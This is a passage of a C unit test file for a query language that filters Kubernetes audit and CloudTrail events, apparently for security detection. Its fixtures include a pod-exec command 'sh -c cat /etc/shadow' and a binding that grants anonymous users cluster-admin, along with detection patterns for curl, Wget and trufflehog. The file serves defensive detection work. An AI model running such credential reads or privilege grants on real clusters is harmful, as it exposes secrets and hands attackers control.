/* SPDX-License-Identifier: BSD-2-Clause */
/* Field expressions: syntax, semantics, errors and prefilter literals. */
#include <stdio.h>
#include <string.h>

#include "test.h"

/* A Kubernetes event (IAM role creating a ClusterRoleBinding). */
#define K8S_EV                                                                                    \
	"{'kind':'Event','apiVersion':'audit.k8s.io/v1','auditID':'id-1','stage':'ResponseComplete',"  \
	"'requestURI':'/apis/rbac.authorization.k8s.io/v1/clusterrolebindings','verb':'create',"      \
	"'user':{'username':'arn:aws:sts::111122223333:assumed-role/Admin/alice',"                    \
	"'uid':'aws-iam-authenticator:111122223333:AROAEXAMPLEID','groups':['system:authenticated','admins']," \
	"'extra':{'accessKeyId':['ASIAEXAMPLEKEY'],'arn':['arn:aws:sts::111122223333:assumed-role/Admin/alice']," \
	"'canonicalArn':['arn:aws:iam::111122223333:role/Admin'],'sessionName':['alice']}},"        \
	"'sourceIPs':['203.0.113.7','10.0.0.5'],'userAgent':'kubectl/v1.29.0 (linux/amd64) kubernetes/abc'," \
	"'objectRef':{'resource':'clusterrolebindings','name':'cluster-system-anonymous',"           \
	"'apiGroup':'rbac.authorization.k8s.io','apiVersion':'v1'},'responseStatus':{'metadata':{},'code':201}," \
	"'requestObject':{'metadata':{'name':'cluster-system-anonymous','labels':{'a.b/c':'d'}},"   \
	"'subjects':[{'kind':'User','name':'system:anonymous'},{'kind':'Group','name':'system:masters'}]," \
	"'roleRef':{'kind':'ClusterRole','name':'cluster-admin'},'replicas':3,'ratio':0.5,'flag':true,'nothing':null}," \
	"'stageTimestamp':'2026-03-01T10:00:00.123456Z',"                                             \
	"'annotations':{'authorization.k8s.io/decision':'allow',"                                     \
	"'authorization.k8s.io/reason':'RBAC: allowed by ClusterRoleBinding \\'admins\\''}}"

#define CT_EV                                                                                     \
	"{'eventVersion':'1.08','userIdentity':{'type':'IAMUser','principalId':'AIDAEXAMPLE',"       \
	"'arn':'arn:aws:iam::111122223333:user/bob','accountId':'111122223333','accessKeyId':'AKIAEXAMPLE'," \
	"'userName':'bob'},'eventTime':'2026-03-01T11:00:00Z','eventSource':'iam.amazonaws.com',"    \
	"'eventName':'CreateAccessKey','awsRegion':'us-east-1','sourceIPAddress':'203.0.113.8',"   \
	"'userAgent':'aws-cli/2.15.0','errorCode':'AccessDenied','errorMessage':'not authorized',"    \
	"'requestParameters':{'userName':'carol'},'eventID':'e1','readOnly':false}"

#define EXEC_EV                                                                                   \
	"{'kind':'Event','apiVersion':'audit.k8s.io/v1','auditID':'id-2','verb':'create',"           \
	"'requestURI':'/api/v1/namespaces/kube-system/pods/p1/exec?command=sh&command=-c&command=cat%20%2Fetc%2Fshadow&container=app&stdin=true'," \
	"'user':{'username':'admin'},'impersonatedUser':{'username':'system:serviceaccount:kube-system:default'}," \
	"'objectRef':{'resource':'pods','namespace':'kube-system','name':'p1','subresource':'exec'}," \
	"'responseStatus':{'metadata':{},'status':'Failure','reason':'Forbidden','code':403}}"

static int
mk(const char *expr)
{
	return t_match(expr, J(K8S_EV));
}

static int
mc(const char *expr)
{
	return t_match(expr, J(CT_EV));
}

K8A_TEST(expr_operators)
{
	CHECK_EQ_INT(mk("verb=create"), 1);
	CHECK_EQ_INT(mk("verb==create"), 1);
	CHECK_EQ_INT(mk("verb=get"), 0);
	CHECK_EQ_INT(mk("verb=creat"), 0);
	CHECK_EQ_INT(mk("verb!=get"), 1);
	CHECK_EQ_INT(mk("verb!=create"), 0);
	CHECK_EQ_INT(mk("code<300"), 1);
	CHECK_EQ_INT(mk("code<201"), 0);
	CHECK_EQ_INT(mk("code<=201"), 1);
	CHECK_EQ_INT(mk("code>201"), 0);
	CHECK_EQ_INT(mk("code>=201"), 1);
	CHECK_EQ_INT(mk("code>200"), 1);
	CHECK_EQ_INT(mk("user~^arn:aws:sts::[0-9]+:assumed-role/"), 1);
	CHECK_EQ_INT(mk("user~^system:"), 0);
	CHECK_EQ_INT(mk("user!~^arn"), 0);
	CHECK_EQ_INT(mk("user!~^system:"), 1);
	CHECK_EQ_INT(mk("name^=cluster-"), 1);
	CHECK_EQ_INT(mk("name^=system"), 0);
	CHECK_EQ_INT(mk("name$=anonymous"), 1);
	CHECK_EQ_INT(mk("name$=cluster"), 0);
	CHECK_EQ_INT(mk("name*=system"), 1);
	CHECK_EQ_INT(mk("name*=xyz"), 0);
	/* spaces around operators */
	CHECK_EQ_INT(mk("  verb  =  create  "), 1);
}

K8A_TEST(expr_in_and_exists)
{
	CHECK_EQ_INT(mk("verb in (get, create)"), 1);
	CHECK_EQ_INT(mk("verb in (\"list\",'watch')"), 0);
	CHECK_EQ_INT(mk("verb in (create)"), 1);
	CHECK_EQ_INT(mk("code in (200, 201)"), 1);
	CHECK_EQ_INT(mk("code in (401,403)"), 0);
	CHECK_EQ_INT(mk("user.groups in (admins, x)"), 1);
	CHECK_EQ_INT(mk("objectRef.name exists"), 1);
	CHECK_EQ_INT(mk("objectRef.subresource exists"), 0);
	CHECK_EQ_INT(mk("objectRef exists"), 1);
	CHECK_EQ_INT(mk("requestObject.nothing exists"), 0);
	/* a bare field means it exists */
	CHECK_EQ_INT(mk("objectRef.name"), 1);
	CHECK_EQ_INT(mk("impersonatedUser"), 0);
	CHECK_EQ_INT(mk("not impersonatedUser"), 1);
	CHECK_EQ_INT(mk("objectRef.name and verb=create"), 1);
	/* a field named like a keyword prefix is a field */
	CHECK_EQ_INT(mk("existsfoo"), 0);
	CHECK_EQ_INT(mk("notes"), 0);
}

K8A_TEST(expr_boolean_precedence)
{
	/* and binds tighter than or */
	CHECK_EQ_INT(mk("verb=create or verb=get and code=404"), 1);
	CHECK_EQ_INT(mk("verb=get and code=404 or verb=create"), 1);
	CHECK_EQ_INT(mk("(verb=create or verb=get) and code=404"), 0);
	/* not binds tighter than and */
	CHECK_EQ_INT(mk("not verb=create and code=404"), 0);
	CHECK_EQ_INT(mk("not (verb=create and code=404)"), 1);
	CHECK_EQ_INT(mk("not not verb=create"), 1);
	CHECK_EQ_INT(mk("!verb=get"), 1);
	CHECK_EQ_INT(mk("! verb=create"), 0);
	CHECK_EQ_INT(mk("verb=create && code=201"), 1);
	CHECK_EQ_INT(mk("verb=get || code=201"), 1);
	CHECK_EQ_INT(mk("verb=get || code=202"), 0);
	CHECK_EQ_INT(mk("((verb=create))"), 1);
	CHECK_EQ_INT(mk("(verb=get or (code=201 and not name=x)) and resource=clusterrolebindings"), 1);
	/* the empty expression matches everything */
	CHECK_EQ_INT(mk(""), 1);
	CHECK_EQ_INT(mk("   "), 1);
}

K8A_TEST(expr_quoted_values)
{
	CHECK_EQ_INT(mk("ua=\"kubectl/v1.29.0 (linux/amd64) kubernetes/abc\""), 1);
	CHECK_EQ_INT(mk("ua='kubectl/v1.29.0 (linux/amd64) kubernetes/abc'"), 1);
	CHECK_EQ_INT(mk("reason=\"RBAC: allowed by ClusterRoleBinding \\\"admins\\\"\""), 1);
	CHECK_EQ_INT(mk("reason='RBAC: allowed by ClusterRoleBinding \"admins\"'"), 1);
	CHECK_EQ_INT(mk("reason$='\\\"admins\\\"'"), 0); /* \" in '...' keeps its backslash */
	CHECK_EQ_INT(mk("verb=\"create\" and name='cluster-system-anonymous'"), 1);
	CHECK_EQ_INT(mk("verb='and'"), 0);
	/* regex escapes survive quoting */
	CHECK_EQ_INT(mk("ua~'\\(linux/amd64\\)'"), 1);
	CHECK_EQ_INT(mk("ua~'v1\\.29\\.0'"), 1);
	CHECK_EQ_INT(mk("ua~'v1\\.2\\d\\.0'"), 1);
	CHECK_EQ_INT(mk("ua~'v1\\.3'"), 0);
	CHECK_EQ_INT(t_match("ua='it\\'s'", "{\"auditID\":\"x\",\"verb\":\"get\",\"userAgent\":\"it's\"}"), 1);
	CHECK_EQ_INT(t_match("ua=\"a\\\\b\"", "{\"auditID\":\"x\",\"verb\":\"get\",\"userAgent\":\"a\\\\b\"}"), 1);
	CHECK_EQ_INT(t_match("ua=\"a\\nb\"", "{\"auditID\":\"x\",\"verb\":\"get\",\"userAgent\":\"a\\nb\"}"), 1);
	CHECK_EQ_INT(t_match("ua=\"a\\tb\"", "{\"auditID\":\"x\",\"verb\":\"get\",\"userAgent\":\"a\\tb\"}"), 1);
}

K8A_TEST(expr_paths)
{
	CHECK_EQ_INT(mk("annotations.\"authorization.k8s.io/decision\"=allow"), 1);
	CHECK_EQ_INT(mk("annotations.\"authorization.k8s.io/decision\"=forbid"), 0);
	CHECK_EQ_INT(mk("requestObject.metadata.labels.\"a.b/c\"=d"), 1);
	CHECK_EQ_INT(mk("requestObject.subjects[1].name=system:masters"), 1);
	CHECK_EQ_INT(mk("requestObject.subjects[0].name=system:masters"), 0);
	CHECK_EQ_INT(mk("requestObject.subjects[2].name exists"), 0);
	CHECK_EQ_INT(mk("sourceIPs[1]=10.0.0.5"), 1);
	CHECK_EQ_INT(mk("sourceIPs[0]=10.0.0.5"), 0);
	CHECK_EQ_INT(mk("objectRef.name.deeper exists"), 0);
	CHECK_EQ_INT(mk("no.such.path=x"), 0);
}

K8A_TEST(expr_path_star_index)
{
	/* "[*]" is any element (the lexer must not cut the field at '*') */
	CHECK_EQ_INT(mk("requestObject.subjects[*].name=system:anonymous"), 1);
	CHECK_EQ_INT(mk("requestObject.subjects[*].name=nobody"), 0);
	CHECK_EQ_INT(mk("name*=system"), 1);
}

K8A_TEST(expr_any_element_semantics)
{
	CHECK_EQ_INT(mk("requestObject.subjects.name=system:anonymous"), 1);
	CHECK_EQ_INT(mk("requestObject.subjects.name=system:masters"), 1);
	CHECK_EQ_INT(mk("requestObject.subjects.name=nobody"), 0);
	CHECK_EQ_INT(mk("requestObject.subjects.kind=Group and requestObject.subjects.name=system:anonymous"), 1);
	CHECK_EQ_INT(mk("requestObject.subjects.name^=system:"), 1);
	CHECK_EQ_INT(mk("requestObject.subjects.name~masters$"), 1);
	/* != is the negation of = over all elements */
	CHECK_EQ_INT(mk("requestObject.subjects.name!=system:masters"), 0);
	CHECK_EQ_INT(mk("requestObject.subjects.name!=nobody"), 1);
	CHECK_EQ_INT(mk("user.groups=system:authenticated"), 1);
	CHECK_EQ_INT(mk("user.groups=admins"), 1);
	CHECK_EQ_INT(mk("user.extra.accessKeyId=ASIAEXAMPLEKEY"), 1);
	/* k8a_json_path does not descend arrays without an index */
	{
		json_t *root = k8a_event_json(t_event(J(K8S_EV)));
		REQUIRE(root != NULL);
		CHECK(k8a_json_path(root, "requestObject.subjects.name") == NULL);
		CHECK_EQ_STR(json_string_value(k8a_json_path(root, "requestObject.subjects[1].name")),
			"system:masters");
		CHECK_EQ_STR(json_string_value(k8a_json_path(root,
			"annotations.\"authorization.k8s.io/decision\"")), "allow");
		CHECK(k8a_json_path(root, "a..b") == NULL);
		CHECK(k8a_json_path(root, "") == NULL || k8a_json_path(root, "") == root);
	}
}

K8A_TEST(expr_absent_fields)
{
	CHECK_EQ_INT(mk("objectRef.namespace!=kube-system"), 1);
	CHECK_EQ_INT(mk("objectRef.namespace=kube-system"), 0);
	CHECK_EQ_INT(mk("namespace!=kube-system"), 1);
	CHECK_EQ_INT(mk("namespace!~kube"), 1);
	CHECK_EQ_INT(mk("namespace~kube"), 0);
	CHECK_EQ_INT(mk("namespace<zzz"), 0);
	CHECK_EQ_INT(mk("requestObject.nothing=null"), 0);
	CHECK_EQ_INT(mk("requestObject.nothing!=x"), 1);
}

K8A_TEST(expr_numeric_string_time)
{
	/* numbers compare as numbers ("201" < "1000" would be false as text) */
	CHECK_EQ_INT(mk("code<1000"), 1);
	CHECK_EQ_INT(mk("code>99"), 1);
	CHECK_EQ_INT(mk("responseStatus.code=201"), 1);
	CHECK_EQ_INT(mk("responseStatus.code=201.0"), 1);
	CHECK_EQ_INT(mk("responseStatus.code>99"), 1);
	CHECK_EQ_INT(mk("responseStatus.code^=20"), 1);
	CHECK_EQ_INT(mk("requestObject.replicas>=3"), 1);
	CHECK_EQ_INT(mk("requestObject.replicas<3"), 0);
	CHECK_EQ_INT(mk("requestObject.ratio<1"), 1);
	CHECK_EQ_INT(mk("requestObject.ratio=0.5"), 1);
	CHECK_EQ_INT(mk("requestObject.replicas>abc"), 0);
	CHECK_EQ_INT(mk("requestObject.flag=true"), 1);
	CHECK_EQ_INT(mk("requestObject.flag=false"), 0);
	/* text compares as text */
	CHECK_EQ_INT(mk("name<d"), 1);
	CHECK_EQ_INT(mk("name>d"), 0);
	CHECK_EQ_INT(mk("name>cluster"), 1);
	/* time compares as time, whatever the notation */
	CHECK_EQ_INT(mk("time>=2026-01-01T00:00:00Z"), 1);
	CHECK_EQ_INT(mk("time<2026-01-01T00:00:00Z"), 0);
	CHECK_EQ_INT(mk("time>=2026-03-01"), 1);
	CHECK_EQ_INT(mk("time<2026-03-01T11:00:00+01:00"), 0);
	CHECK_EQ_INT(mk("time>2026-03-01T11:00:00+01:00"), 1);
	CHECK_EQ_INT(mk("time<2026-03-01T10:00:00.2Z"), 1);
	CHECK_EQ_INT(mk("time>2026-03-01T10:00:00.123456Z"), 0);
	CHECK_EQ_INT(mk("time>=2026-03-01T10:00:00.123456Z"), 1);
	CHECK_EQ_INT(mc("time>2026-03-01T10:59:59Z and time<2026-03-01T11:00:01Z"), 1);
	/* CloudTrail's code is errorCode, a string */
	CHECK_EQ_INT(mc("code=AccessDenied"), 1);
	CHECK_EQ_INT(mc("code<300"), 0);
}

K8A_TEST(expr_aliases_kubernetes)
{
	CHECK_EQ_INT(mk("type=k8s"), 1);
	CHECK_EQ_INT(mk("type=cloudtrail"), 0);
	CHECK_EQ_INT(mk("id=id-1"), 1);
	CHECK_EQ_INT(mk("user=arn:aws:sts::111122223333:assumed-role/Admin/alice"), 1);
	CHECK_EQ_INT(mk("uid^=aws-iam-authenticator:"), 1);
	CHECK_EQ_INT(mk("groups=admins"), 1);
	CHECK_EQ_INT(mk("group=system:authenticated"), 1);
	CHECK_EQ_INT(mk("arn$=/alice"), 1);
	CHECK_EQ_INT(mk("canonicalarn=arn:aws:iam::111122223333:role/Admin"), 1);
	CHECK_EQ_INT(mk("key=ASIAEXAMPLEKEY"), 1);
	CHECK_EQ_INT(mk("accesskey=ASIAEXAMPLEKEY"), 1);
	CHECK_EQ_INT(mk("session=alice"), 1);
	CHECK_EQ_INT(mk("account=111122223333"), 1);
	CHECK_EQ_INT(mk("ip=10.0.0.5"), 1);
	CHECK_EQ_INT(mk("ip=203.0.113.7"), 1);
	CHECK_EQ_INT(mk("peer=10.0.0.5"), 1);
	CHECK_EQ_INT(mk("peer=203.0.113.7"), 0);
	CHECK_EQ_INT(mk("ua^=kubectl/"), 1);
	CHECK_EQ_INT(mk("action=create"), 1);
	CHECK_EQ_INT(mk("apigroup=rbac.authorization.k8s.io"), 1);
	CHECK_EQ_INT(mk("resource=clusterrolebindings"), 1);
	CHECK_EQ_INT(mk("name=cluster-system-anonymous"), 1);
	CHECK_EQ_INT(mk("decision=allow"), 1);
	CHECK_EQ_INT(mk("reason*=admins"), 1);
	CHECK_EQ_INT(mk("stage=ResponseComplete"), 1);
	CHECK_EQ_INT(mk("uri^=/apis/rbac"), 1);
	CHECK_EQ_INT(mk("region exists"), 0);
	/* the CON318 query */
	CHECK_EQ_INT(mk("verb=create and objectRef.apiGroup=rbac.authorization.k8s.io and code<300"), 1);
}

K8A_TEST(expr_aliases_exec_and_impersonation)
{
	const char *ev = J(EXEC_EV);

	CHECK_EQ_INT(t_match("as=system:serviceaccount:kube-system:default", ev), 1);
	CHECK_EQ_INT(t_match("impersonated^=system:serviceaccount:", ev), 1);
	CHECK_EQ_INT(t_match("ns=kube-system and subresource=exec", ev), 1);
	CHECK_EQ_INT(t_match("namespace=kube-system", ev), 1);
	/* the arguments joined by spaces (quoted for display, or not) */
	CHECK_EQ_INT(t_match("command=\"sh -c 'cat /etc/shadow'\" or command='sh -c cat /etc/shadow'", ev), 1);
	CHECK_EQ_INT(t_match("command^='sh -c '", ev), 1);
	CHECK_EQ_INT(t_match("command*=/etc/shadow", ev), 1);
	CHECK_EQ_INT(t_match("container=app", ev), 1);
	CHECK_EQ_INT(t_match("container=other", ev), 0);
	CHECK_EQ_INT(t_match("error=Forbidden", ev), 1);
	CHECK_EQ_INT(t_match("code=403 and decision exists", ev), 0);
	CHECK_EQ_INT(mk("command exists"), 0);
}

K8A_TEST(expr_aliases_cloudtrail)
{
	CHECK_EQ_INT(mc("type=cloudtrail"), 1);
	CHECK_EQ_INT(mc("user=bob"), 1);
	CHECK_EQ_INT(mc("verb=CreateAccessKey"), 1);
	CHECK_EQ_INT(mc("eventName=CreateAccessKey"), 1);
	/* action: the IAM action, as policies name it */
	CHECK_EQ_INT(mc("action=iam:CreateAccessKey"), 1);
	CHECK_EQ_INT(mc("action=CreateAccessKey"), 0);
	CHECK_EQ_INT(mc("service=iam.amazonaws.com"), 1);
	CHECK_EQ_INT(mc("ip=203.0.113.8"), 1);
	CHECK_EQ_INT(mc("peer=203.0.113.8"), 1);
	CHECK_EQ_INT(mc("key=AKIAEXAMPLE"), 1);
	CHECK_EQ_INT(mc("arn=arn:aws:iam::111122223333:user/bob"), 1);
	CHECK_EQ_INT(mc("account=111122223333"), 1);
	CHECK_EQ_INT(mc("principal=AIDAEXAMPLE"), 1);
	CHECK_EQ_INT(mc("region=us-east-1"), 1);
	CHECK_EQ_INT(mc("error=AccessDenied"), 1);
	CHECK_EQ_INT(mc("reason='not authorized'"), 1);
	CHECK_EQ_INT(mc("ua^=aws-cli/"), 1);
	CHECK_EQ_INT(mc("id=e1"), 1);
	CHECK_EQ_INT(mc("userIdentity.type=IAMUser"), 1);
	CHECK_EQ_INT(mc("readOnly=false"), 1);
	/* Kubernetes-only aliases never match CloudTrail */
	CHECK_EQ_INT(mc("groups exists"), 0);
	CHECK_EQ_INT(mc("namespace exists"), 0);
	CHECK_EQ_INT(mc("resource exists"), 0);
	CHECK_EQ_INT(mc("groups!=x"), 1);
}

K8A_TEST(expr_field_references)
{
	CHECK_EQ_INT(mc("requestParameters.userName!=@userIdentity.userName"), 1);
	CHECK_EQ_INT(mc("requestParameters.userName=@userIdentity.userName"), 0);
	CHECK_EQ_INT(mc("user=@userIdentity.userName"), 1);
	CHECK_EQ_INT(mk("user=@arn"), 1);
	CHECK_EQ_INT(mk("name=@requestObject.metadata.name"), 1);
	CHECK_EQ_INT(mk("name=@requestObject.subjects.name"), 0);
	CHECK_EQ_INT(mk("requestObject.subjects.name=@requestObject.subjects.name"), 1);
	CHECK_EQ_INT(mk("name=@no.such.field"), 0);
	/* a quoted @ is a plain value */
	CHECK_EQ_INT(t_match("ua='@arn'", "{\"auditID\":\"x\",\"verb\":\"get\",\"userAgent\":\"@arn\"}"), 1);
}

K8A_TEST(expr_unparseable_events)
{
	struct k8a_err err;
	k8a_expr *x = k8a_expr_compile("verb=get", &err), *all = k8a_expr_compile("", &err);
	k8a_event *ev;

	REQUIRE(x != NULL && all != NULL);
	CHECK_EQ_INT(k8a_expr_needs_json(x), 1);
	CHECK_EQ_INT(k8a_expr_needs_json(all), 0);
	ev = t_event("{\"verb\":\"get\",}");
	REQUIRE(ev != NULL);
	CHECK_EQ_INT(k8a_expr_match(x, ev), K8A_WARN);
	CHECK_EQ_INT(k8a_expr_match(all, ev), 1);
	ev = t_event("{\"kind\":0}");
	REQUIRE(ev != NULL);
	CHECK_EQ_INT(k8a_expr_match(x, ev), K8A_WARN);
	k8a_expr_free(x);
	k8a_expr_free(all);
	k8a_expr_free(NULL);
}

static void
check_error(const char *file, int line, const char *expr, size_t offset, const char *msg_part)
{
	struct k8a_err err;
	k8a_expr *x;

	memset(&err, 0x55, sizeof(err));
	x = k8a_expr_compile(expr, &err);
	if (x != NULL) {
		k8a_test_fail(file, line, "'%s' compiled", expr);
		k8a_expr_free(x);
		return;
	}
	if (err.code != K8A_FAILED)
		k8a_test_fail(file, line, "'%s': code %d", expr, err.code);
	if (memchr(err.msg, '\0', sizeof(err.msg)) == NULL || strstr(err.msg, msg_part) == NULL)
		k8a_test_fail(file, line, "'%s': expected message with \"%s\" got \"%.*s\"", expr, msg_part,
			(int)sizeof(err.msg), err.msg);
	if (err.offset != offset)
		k8a_test_fail(file, line, "'%s': expected offset %zu got %zu (%s)", expr, offset, err.offset,
			err.msg);
	/* without an error structure: NULL, no crash */
	if ((x = k8a_expr_compile(expr, NULL)) != NULL) {
		k8a_test_fail(file, line, "'%s' compiled without err", expr);
		k8a_expr_free(x);
	}
}
#define CHECK_ERROR(expr, off, msg) check_error(__FILE__, __LINE__, (expr), (off), (msg))

K8A_TEST(expr_compile_errors)
{
	CHECK_ERROR("(verb=get", 0, "unbalanced '('");
	CHECK_ERROR("verb=get and (code=1 or (x=2)", 13, "unbalanced '('");
	CHECK_ERROR("verb=get)", 8, "unbalanced ')'");
	CHECK_ERROR("verb=", 5, "expected a value");
	CHECK_ERROR("verb=get and", 12, "expected a field name");
	CHECK_ERROR("verb=get or ", 12, "expected a field name");
	CHECK_ERROR("not", 3, "expected a field name");
	CHECK_ERROR("user~'['", 4, "bad regular expression");
	CHECK_ERROR("user~'a(b'", 4, "bad regular expression");
	CHECK_ERROR("verb=get foo", 9, "expected 'and', 'or' or the end");
	CHECK_ERROR("verb in (a, b", 13, "expected ',' or ')'");
	CHECK_ERROR("verb in a", 8, "expected '(' after 'in'");
	CHECK_ERROR("verb in (a,)", 11, "expected a value");
	CHECK_ERROR("ua=\"abc", 3, "unterminated quoted string");
	CHECK_ERROR("a..b=1", 2, "bad field path");
	CHECK_ERROR("a[x]=1", 1, "bad field path");
	CHECK_ERROR("user~@arn", 4, "a regex cannot come from another field");
	CHECK_ERROR("()", 1, "expected");
}

/* ---- prefilter literals ---- */

/* The literals as one string "a|b|c", or "NULL". */
static const char *
lits_of(const char *expr)
{
	static char out[1024];
	struct k8a_err err;
	k8a_expr *x = k8a_expr_compile(expr, &err);
	const char *const *l;
	size_t i, off = 0;

	if (x == NULL) {
		snprintf(out, sizeof(out), "COMPILE ERROR %s", err.msg);
		return out;
	}
	l = k8a_expr_literals(x);
	if (l == NULL)
		snprintf(out, sizeof(out), "NULL");
	else {
		out[0] = '\0';
		for (i = 0; l[i] && off < sizeof(out) - 1; i++)
			off += (size_t)snprintf(out + off, sizeof(out) - off, "%s%s", i ? "|" : "", l[i]);
	}
	k8a_expr_free(x);
	return out;
}

K8A_TEST(expr_literals)
{
	CHECK_EQ_STR(lits_of("verb=create"), "\"create\"");
	CHECK_EQ_STR(lits_of("verb=create and name=cluster-system-anonymous"), "\"cluster-system-anonymous\"");
	CHECK_EQ_STR(lits_of("name=cluster-system-anonymous and verb=create"), "\"cluster-system-anonymous\"");
	CHECK_EQ_STR(lits_of("verb=create or verb=delete"), "\"create\"|\"delete\"");
	CHECK_EQ_STR(lits_of("verb in (create, delete)"), "\"create\"|\"delete\"");
	CHECK_EQ_STR(lits_of("(verb=create or verb=delete) and (name=abcdefgh or name=ijklmnop)"),
		"\"abcdefgh\"|\"ijklmnop\"");
	/* equal length: the side with fewer alternatives */
	CHECK_EQ_STR(lits_of("(a=xxxx or a=yyyy) and b=zzzz"), "\"zzzz\"");
	CHECK_EQ_STR(lits_of("verb=create and user~x"), "\"create\"");
	CHECK_EQ_STR(lits_of("user~x and verb=create"), "\"create\"");
	CHECK_EQ_STR(lits_of("verb=create and not name=abcdefghij"), "\"create\"");
	CHECK_EQ_STR(lits_of("name^=abc"), "abc");
	CHECK_EQ_STR(lits_of("name$=abc"), "abc");
	CHECK_EQ_STR(lits_of("name*=abc"), "abc");
	CHECK_EQ_STR(lits_of("ns=ab"), "\"ab\"");
	/* none derivable */
	CHECK_EQ_STR(lits_of(""), "NULL");
	CHECK_EQ_STR(lits_of("not verb=create"), "NULL");
	CHECK_EQ_STR(lits_of("verb!=create"), "NULL");
	CHECK_EQ_STR(lits_of("user~foo"), "NULL");
	CHECK_EQ_STR(lits_of("user!~foo"), "NULL");
	CHECK_EQ_STR(lits_of("code=403"), "NULL");
	CHECK_EQ_STR(lits_of("code<300"), "NULL");
	CHECK_EQ_STR(lits_of("time>2026-01-01"), "NULL");
	CHECK_EQ_STR(lits_of("time=2026-01-01T00:00:00Z"), "NULL");
	CHECK_EQ_STR(lits_of("x=null"), "NULL");
	CHECK_EQ_STR(lits_of("requestObject.spec.x!=1"), "NULL");
	CHECK_EQ_STR(lits_of("requestObject.spec.x exists"), "NULL"); /* key too short */
	/* a plain path a positive test reads: its last key, between quotes */
	CHECK_EQ_STR(lits_of("replicas=3"), "\"replicas\"");
	CHECK_EQ_STR(lits_of("flag=true"), "\"flag\"");
	CHECK_EQ_STR(lits_of("requestObject.spec.hostPID exists"), "\"hostPID\"");
	CHECK_EQ_STR(lits_of("requestObject.spec.containers[0].image ~ x"), "\"image\"");
	CHECK_EQ_STR(lits_of("responseStatus.code=403"), "\"code\"");
	CHECK_EQ_STR(lits_of("a.\"b/c\" exists"), "NULL");
	CHECK_EQ_STR(lits_of("name exists"), "NULL");
	CHECK_EQ_STR(lits_of("type=k8s"), "NULL");
	CHECK_EQ_STR(lits_of("command=id"), "NULL");
	CHECK_EQ_STR(lits_of("name=@user"), "NULL");
	CHECK_EQ_STR(lits_of("verb=create or user~x"), "NULL");
	CHECK_EQ_STR(lits_of("verb in (create, 404)"), "NULL");
	CHECK_EQ_STR(lits_of("user=\"\""), "NULL");
	/* unsafe bytes: the longest safe run, if long enough, without quotes */
	CHECK_EQ_STR(lits_of("ua=\"curl/7.88.1\""), "7.88.1");
	CHECK_EQ_STR(lits_of("name=a/bcdef/gh"), "bcdef");
	CHECK_EQ_STR(lits_of("name=a/b"), "NULL");
	CHECK_EQ_STR(lits_of("name=caf\xc3\xa9"), "caf");
	CHECK_EQ_STR(lits_of("ua='a<script>b'"), "script");
	CHECK_EQ_STR(lits_of("reason='say \"hello\" now'"), "hello");
	CHECK_EQ_STR(lits_of("annotations.\"authorization.k8s.io/decision\"=allow"), "\"allow\"");
}

static int
implies(const char *expr, const char *l1, const char *l2)
{
	const char *lits[] = { l1, l2, NULL };
	k8a_expr *x = k8a_expr_compile(expr, NULL);
	int r = x ? k8a_expr_implies(x, lits) : -1;

	k8a_expr_free(x);
	return r;
}

K8A_TEST(expr_implies_literals)
{
	/* values, whole or a safe run of them */
	CHECK_EQ_INT(implies("verb=create", "create", NULL), 1);
	CHECK_EQ_INT(implies("verb=create", "\"create\"", NULL), 1);
	CHECK_EQ_INT(implies("verb in (create, delete)", "create", NULL), 0);
	CHECK_EQ_INT(implies("verb in (create, delete)", "create", "delete"), 1);
	CHECK_EQ_INT(implies("uri^=/api/v1/nodes", "nodes", NULL), 1);
	CHECK_EQ_INT(implies("uri^=/api/v1/nodes", "/api/v1/nodes", NULL), 0); /* "/" may be escaped */
	/* "and": either side; "or": both */
	CHECK_EQ_INT(implies("eventSource=iam.amazonaws.com and eventName=CreateUser", "CreateUser", NULL), 1);
	CHECK_EQ_INT(implies("decision=forbid or code=403", "forbid", "Forbidden"), 0);
	CHECK_EQ_INT(implies("code=401", "Unauthorized", NULL), 0);
	CHECK_EQ_INT(implies("not verb=create", "create", NULL), 0);
	CHECK_EQ_INT(implies("verb!=create", "create", NULL), 0);
	/* regexes: a plain string or ^(a|b), case as written */
	CHECK_EQ_INT(implies("name ~ 'kubernetes-dashboard'", "dashboard", NULL), 1);
	CHECK_EQ_INT(implies("ua ~ '^(curl|Wget)'", "curl", "Wget"), 1);
	CHECK_EQ_INT(implies("ua ~ '^(curl|Wget)'", "curl", NULL), 0);
	CHECK_EQ_INT(implies("ua ~ '(?i)trufflehog'", "trufflehog", "TruffleHog"), 0);
	CHECK_EQ_INT(implies("ua ~ 'a.b'", "a", NULL), 0);
	/* keys of a path a positive test reads */
	CHECK_EQ_INT(implies("impersonatedUser.username ^= system:node:", "impersonatedUser", NULL), 1);
	CHECK_EQ_INT(implies("requestObject.spec.volumes.hostPath.path ~ x", "hostPath", NULL), 1);
	CHECK_EQ_INT(implies("requestObject.metadata.annotations.\"kubernetes.io/config.mirror\" exists",
		"config.mirror", NULL), 1);
	CHECK_EQ_INT(implies("not requestObject.spec.hostPID exists", "hostPID", NULL), 0);
	CHECK_EQ_INT(implies("user.username != x", "username", NULL), 0);
	CHECK_EQ_INT(implies("code=403", "code", NULL), 0); /* an alias: two sources */
	CHECK_EQ_INT(implies("verb=create", NULL, NULL), 0);
}

K8A_TEST(expr_literals_combinators)
{
	struct k8a_err err;
	k8a_expr *x;
	const char *const *l;

	x = k8a_expr_and(k8a_expr_compile("verb=create", &err), k8a_expr_compile("name=longername", &err));
	REQUIRE(x != NULL);
	l = k8a_expr_literals(x);
	CHECK(l != NULL && l[0] && strcmp(l[0], "\"longername\"") == 0 && l[1] == NULL);
	CHECK_EQ_INT(k8a_expr_match(x, t_event(J(K8S_EV))), 0);
	k8a_expr_free(x);

	x = k8a_expr_or(k8a_expr_compile("verb=create", &err), k8a_expr_compile("verb=delete", &err));
	REQUIRE(x != NULL);
	l = k8a_expr_literals(x);
	CHECK(l != NULL && l[0] && l[1] && strcmp(l[0], "\"create\"") == 0 && strcmp(l[1], "\"delete\"") == 0 &&
	      l[2] == NULL);
	CHECK_EQ_INT(k8a_expr_match(x, t_event(J(K8S_EV))), 1);
	k8a_expr_free(x);

	/* an empty side of "and" is neutral */
	x = k8a_expr_and(k8a_expr_compile("", &err), k8a_expr_compile("verb=delete", &err));
	REQUIRE(x != NULL);
	l = k8a_expr_literals(x);
	CHECK(l != NULL && l[0] && strcmp(l[0], "\"delete\"") == 0);
	CHECK_EQ_INT(k8a_expr_match(x, t_event(J(K8S_EV))), 0);
	k8a_expr_free(x);

	x = k8a_expr_and(k8a_expr_compile("verb=delete", &err), NULL);
	REQUIRE(x != NULL);
	CHECK_EQ_INT(k8a_expr_match(x, t_event(J(K8S_EV))), 0);
